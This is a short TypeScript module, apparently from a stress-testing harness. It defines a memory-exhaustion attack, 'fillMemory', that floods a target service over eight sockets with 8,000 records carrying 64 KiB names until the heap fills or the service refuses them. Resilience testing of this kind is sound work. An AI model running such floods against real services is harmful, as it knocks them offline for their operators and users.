import { addHugeAnimals } from './add-huge-animals.ts';
import type { Attack } from './attack.ts';
import { withSockets } from './open-sockets.ts';

const connections = 8;

/** Twice as many animals as a heap of 259 MiB can hold. */
const animals = 8_000;

/** Adds animals whose names have 64 KiB until the service refuses them or the time is over. */
export const fillMemory: Attack = (target) =>
  withSockets(target, (sockets) =>
    Promise.all(
      Array.from({ length: connections }, () => addHugeAnimals(sockets, target.apiKey, animals / connections)),
    ),
  );
